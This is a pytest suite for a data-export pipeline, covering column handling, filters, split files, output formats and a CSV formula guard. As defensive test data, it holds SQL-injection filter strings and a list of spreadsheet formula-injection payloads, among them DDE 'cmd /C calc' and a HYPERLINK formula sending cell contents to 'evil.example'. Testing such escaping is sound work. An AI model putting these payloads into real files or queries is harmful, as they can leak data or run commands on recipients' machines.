"""What a client file can ask of an export: columns, names, rows, hashes, sites, formats, parts, places."""

import csv
import gzip
import hashlib
import io
import json
from datetime import timedelta

import duckdb
import pandas
import pytest
import zstandard
from support.orchestration_builders import EVENTS, HOUR, add_event, client, warehouse

from footfall.catalogue.tables import DATASETS
from footfall.clients import Export, Site
from footfall.failures import ConfigError
from footfall.verify import verify_bucket
from orchestration.delivery.render import render
from orchestration.delivery.selection import select


def export(**fields):
    return Export.model_validate({"name": "events", "dataset": "events", "cadence": "hourly", **fields})


def written(connection, folder, owner=None, **fields):
    """(Rendered, the bytes of each file)."""
    selection = select(connection, owner or client(), export(**fields), "ab" * 16)
    rendered = render(connection, selection, selection.calendar.at(HOUR), "f/", folder)
    return rendered, [path.read_bytes() for path in rendered.paths]


def rows(connection, folder, **fields):
    """The rows of a CSV export as dicts."""
    _, [data] = written(connection, folder, **fields)
    return list(csv.DictReader(io.StringIO(data.decode())))


def test_columns_come_in_the_order_asked_for_under_the_names_asked_for(connection, tmp_path):
    add_event(connection, "e1", title="Home")

    [row] = rows(connection, tmp_path, columns=["title", "event_id"], rename={"event_id": "id"})

    assert list(row.items()) == [("title", "Home"), ("id", "e1")]


def test_a_hashed_column_is_keyed_and_joins_across_files(connection, tmp_path):
    add_event(connection, "e1", title="Home")
    add_event(connection, "e2", title=None)

    first, second = rows(connection, tmp_path, columns=["event_id", "title"], hash=["title"])

    key = "ab" * 16
    inner = hashlib.sha256((key + "Home").encode()).hexdigest()
    assert first["title"] == hashlib.sha256((key + inner).encode()).hexdigest()
    assert second["title"] == ""


def test_a_dropped_column_is_not_there(connection, tmp_path):
    add_event(connection, "e1")

    [row] = rows(connection, tmp_path, drop=["title", "amount"])

    assert {"title", "amount"}.isdisjoint(row)


@pytest.mark.parametrize(
    ("condition", "found"),
    [
        ("event_id = 'e1'", "1"),
        ("event_id != 'e1' and amount >= 2", "23"),
        ("event_id in ('e1', 'e3')", "13"),
        ("not event_id in ('e1', 'e3')", "2"),
        ("event_id not in ('e1')", "23"),
        ("title is null", "3"),
        ("title is not null and not (title contains 'x')", "2"),
        ("title starts_with 'a' or title ends_with 'c'", "12"),
        ("amount > 1.5 and (amount < 2.5 or title is null)", "23"),
        ("occurred_at >= '2026-11-20T14:00:00Z'", "123"),
        ("title = 'ab''x'", "1"),
        ("title = ''' OR 1=1 --'", ""),
    ],
)
def test_a_filter_lets_through_the_rows_it_is_true_for(connection, tmp_path, condition, found):
    for n, title in enumerate(["ab'x", "abc", None], 1):
        add_event(connection, f"e{n}", title=title, amount=float(n))

    rendered, [data] = written(connection, tmp_path, filter=condition)

    ids = [row["event_id"] for row in csv.DictReader(io.StringIO(data.decode()))]
    assert "".join(i.removeprefix("e") for i in ids) == found
    assert (rendered.rows, rendered.delivered, rendered.excluded) == (3, len(ids), 3 - len(ids))


@pytest.mark.parametrize(
    ("condition", "found"),
    [
        ("props.plan = 'team'", "1"),
        ("Props.plan != 'team'", "2"),
        ("props.PLAN = 'team'", ""),
        ("props.'lead score' >= 85", "12"),
        ("props.'lead score' in (85, 90.5)", "12"),
        ("not props.'lead score' < 90", "2"),
        ("props.member", "1"),
        ("props.member = false", "2"),
        ("props.plan is null", "3456"),
        ("props.plan is not null and props.'a/b~c' = 'x'", "2"),
        ("props.a.b = '1'", "2"),
        ("props.plan starts_with 'fr' or event_id = 'e4'", "24"),
        ("props.plan = ''' OR 1=1 --'", ""),
        ("props.'\"' = 'quoted'", "3"),
        ("props.'it''s' = 1", "3"),
    ],
)
def test_a_filter_asks_for_members_of_what_a_column_holds_as_json(connection, tmp_path, condition, found):
    connection.execute("ALTER TABLE main.events ADD COLUMN props VARCHAR")
    said = [
        {"plan": "team", "lead score": 85, "member": True},
        {"plan": "free", "lead score": "90.5", "member": False, "a/b~c": "x", "a.b": 1},
        {"plan": None, "lead score": "much", '"': "quoted", "it's": 1},
        None,
        "no json",
        [1],
    ]
    for n, each in enumerate(said, 1):
        connection.execute(
            "INSERT INTO main.events BY NAME SELECT 'demo' AS client_id, 'shop' AS site_id, ? AS event_id, "
            "? AS received_hour, ? AS received_at, ? AS occurred_at, ? AS props",
            [f"e{n}", HOUR, HOUR, HOUR, each if each in (None, "no json") else json.dumps(each)],
        )

    _, [data] = written(connection, tmp_path, filter=condition)

    ids = [row["event_id"] for row in csv.DictReader(io.StringIO(data.decode()))]
    assert "".join(i.removeprefix("e") for i in ids) == found


@pytest.mark.parametrize(
    ("condition", "said"),
    [
        ("colour = 1", "there is no column colour"),
        ("props.plan = 'x'", "there is no column props"),
        ("amount = 'much'", "cannot be compared"),
        ("title > 3", "cannot be compared"),
        ("title", "compare it with something"),
        ("amount contains 'x'", "is for text"),
    ],
)
def test_a_filter_that_does_not_fit_is_a_clear_mistake(connection, tmp_path, condition, said):
    add_event(connection, "e1")

    with pytest.raises(ConfigError, match=said):
        written(connection, tmp_path, filter=condition)


@pytest.mark.parametrize(
    "condition",
    [
        "title = ",
        "= 1",
        "title == 'a'",
        "title = 'a",
        "a; drop table events",
        "1 = 1",
        "(" * 30 + "a",
        "a in ()",
        "props. = 1",
        "props.'' = 1",
        "props.'a\0b' = 1",
        "title.a = 1",
        "props.plan contains 3",
    ],
)
def test_what_is_no_condition_is_refused_with_the_client_file(condition):
    with pytest.raises(ValueError, match="filter"):
        export(filter=condition)


def test_a_split_export_has_a_file_for_each_site_also_for_one_without_rows(connection, tmp_path):
    owner = client().model_copy(
        update={
            "sites": [
                Site(site_id=s, key=f"pk_{s}_00000", domains=[f"{s}.example"]) for s in ("shop", "blog")
            ]
        }
    )
    add_event(connection, "e1")
    add_event(connection, "e2", site_id="gone")

    rendered, data = written(connection, tmp_path, owner, split="site")

    assert [(f.site, f.rows) for f in rendered.files] == [("shop", 1), ("blog", 0), ("gone", 1)]
    assert rendered.files[0].key.startswith("f/site=shop/events-20261120T14Z-")
    assert data[1].count(b"\n") == 1


FORMATS = [
    (form, compression) for form in ("csv", "jsonl", "parquet") for compression in ("none", "gzip", "zstd")
]


@pytest.mark.parametrize(("form", "compression"), FORMATS)
def test_every_format_comes_back_through_duckdb_and_pandas_and_is_the_same_twice(tmp_path, form, compression):
    titles = ["plain", None, "", 'say "hi"', "two\nlines", "Smörgås 🧁", "=1+1", "'quoted'"]
    fields = {"format": form, "compression": compression, "formula_guard": False}
    with warehouse() as connection:
        for n, title in enumerate(titles):
            add_event(connection, f"e{n}", title=title, amount=n / 3)
        rendered, [data] = written(connection, tmp_path / "a", **fields)
        connection.execute(
            "CREATE TABLE r AS FROM main.events ORDER BY event_id DESC; DELETE FROM main.events"
        )
        connection.execute("INSERT INTO main.events FROM r")
        connection.execute("SET threads = 1")
        _, [again] = written(connection, tmp_path / "b", **fields)
    assert data == again, "the same rows in another order"
    extension = export(**fields).extension
    assert rendered.files[0].key.endswith(f".{extension}")
    path = tmp_path / f"data.{extension}"
    path.write_bytes(data)
    if form == "parquet":
        frame = pandas.read_parquet(path)
        reader = f"read_parquet('{path}')"
    else:
        plain = gzip.decompress(data) if compression == "gzip" else data
        if compression == "zstd":
            plain = zstandard.ZstdDecompressor().decompressobj().decompress(data)
        if form == "csv":
            frame = pandas.read_csv(io.BytesIO(plain), keep_default_na=False)
            reader = (
                f"read_csv('{path}', header = true, nullstr = '', allow_quoted_nulls = false, delim = ',', "
                "quote = '\"', escape = '\"', columns = {'client_id': 'VARCHAR', 'site_id': 'VARCHAR', "
                "'event_id': 'VARCHAR', 'title': 'VARCHAR', 'amount': 'DOUBLE', 'received_hour': 'VARCHAR', "
                "'occurred_at': 'VARCHAR', 'received_at': 'VARCHAR'})"
            )
        else:
            read = [json.loads(line) for line in plain.decode().splitlines()]
            frame = pandas.DataFrame(read)
            assert read[1]["title"] is None
            reader = (
                f"read_json('{path}', format = 'newline_delimited', "
                "columns = {'event_id': 'VARCHAR', 'title': 'VARCHAR', 'amount': 'DOUBLE'})"
            )
    with duckdb.connect() as fresh:
        found = fresh.execute(f"SELECT title, amount FROM {reader} ORDER BY event_id").fetchall()
    assert [row[0] for row in found] == titles
    assert [row[1] for row in found] == pytest.approx([n / 3 for n in range(len(titles))])
    assert [cell if isinstance(cell, str) else "" for cell in frame["title"]] == [
        title or "" for title in titles
    ]


#: Five hundred ways in which text becomes a formula: what begins it × what follows × what is in front.
PAYLOADS = [
    f"{apostrophes}{start}{rest}"
    for apostrophes in ("", "'", "''", "'''")
    for start in ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠", "=\t", "\r\n=", "\t\n@")
    for rest in (
        "1+1",
        "cmd|' /C calc'!A0",
        'HYPERLINK("https://evil.example?x="&A1,"Click")',
        "SUM(A1)*2",
        'DDE("cmd";"/C calc";"!A0")',
        "",
        "WEBSERVICE(A1)",
        'ünï,"quoted"',
        "'",
    )
]


def test_no_payload_of_five_hundred_begins_a_formula_and_each_comes_back(connection, tmp_path):
    assert len(set(PAYLOADS)) >= 500
    for n, payload in enumerate(PAYLOADS):
        add_event(connection, f"e{n:04d}", title=payload)

    _, [data] = written(connection, tmp_path)

    cells = [row["title"] for row in csv.DictReader(io.StringIO(data.decode(), newline=""))]
    assert cells == ["'" + payload for payload in PAYLOADS]


def test_the_guard_can_be_switched_off_and_the_manifest_says_so(connection, tmp_path):
    add_event(connection, "e1", title="=1")

    [row] = rows(connection, tmp_path, formula_guard=False)

    assert row["title"] == "=1"
    assert select(connection, client(), export(formula_guard=False), "").dialect["formula_guard"] is None


def test_a_file_that_would_be_too_large_is_cut_into_parts_in_order(connection, tmp_path):
    connection.execute(
        "INSERT INTO main.events SELECT 'demo', 'shop', printf('e%05d', i), "
        "repeat(md5(CAST(i AS VARCHAR)), 30), 1, ?, ?, ? FROM range(3000) AS n(i)",
        [HOUR, HOUR, HOUR],
    )

    rendered, data = written(connection, tmp_path, max_file_bytes=1024 * 1024)

    assert len(data) >= 3
    assert all(len(part) <= 1024 * 1024 for part in data)
    assert all(f"-part{n:04d}-" in f.key for n, f in enumerate(rendered.files, 1))
    ids = [r["event_id"] for part in data for r in csv.DictReader(io.StringIO(part.decode()))]
    assert ids == [f"e{n:05d}" for n in range(3000)]
    assert rendered.delivered == 3000


def test_nested_values_are_json_in_csv(connection, tmp_path):
    connection.execute("ALTER TABLE main.events ADD COLUMN tags STRUCT(a INTEGER, b VARCHAR)")
    add = "INSERT INTO main.events VALUES ('demo', 'shop', 'e1', 't', 1, ?, ?, ?, {'a': 1, 'b': 'x'})"
    connection.execute(add, [HOUR] * 3)

    [row] = rows(connection, tmp_path)

    assert json.loads(row["tags"]) == {"a": 1, "b": "x"}


def test_a_key_template_names_the_folder(at):
    custom = EVENTS.model_copy(update={"key": "raw/{client}/{dataset}/{export}/{date}/{hour}/r{revision}"})

    outcome = at.deliver(export=custom)

    assert outcome.files[0].key.startswith("raw/demo/events/events/2026-11-20/14/r0001/events-20261120T14Z-")
    assert verify_bucket(at.destination).problems == []


def test_a_day_of_events_is_the_local_day_in_which_they_were_received(at):
    berlin = client(timezone="Europe/Berlin")
    day = berlin.local_midnight("2026-11-20")
    add_event(at.connection, "before", hour=HOUR.replace(hour=22) - timedelta(days=1))
    add_event(at.connection, "first", hour=HOUR.replace(hour=23) - timedelta(days=1))
    daily = EVENTS.model_copy(update={"cadence": "daily"})

    outcome = at.deliver(day, daily, owner=berlin)

    assert outcome.rows == 2
    assert at.restated(daily, owner=berlin) == []
    assert outcome.files[0].key.startswith("events/dt=2026-11-20/rev=0001/events-20261120-")


def test_every_dataset_has_one_kind_of_period():
    for name, dataset in DATASETS.items():
        assert bool(dataset.day) != bool(dataset.hour and dataset.moment), name
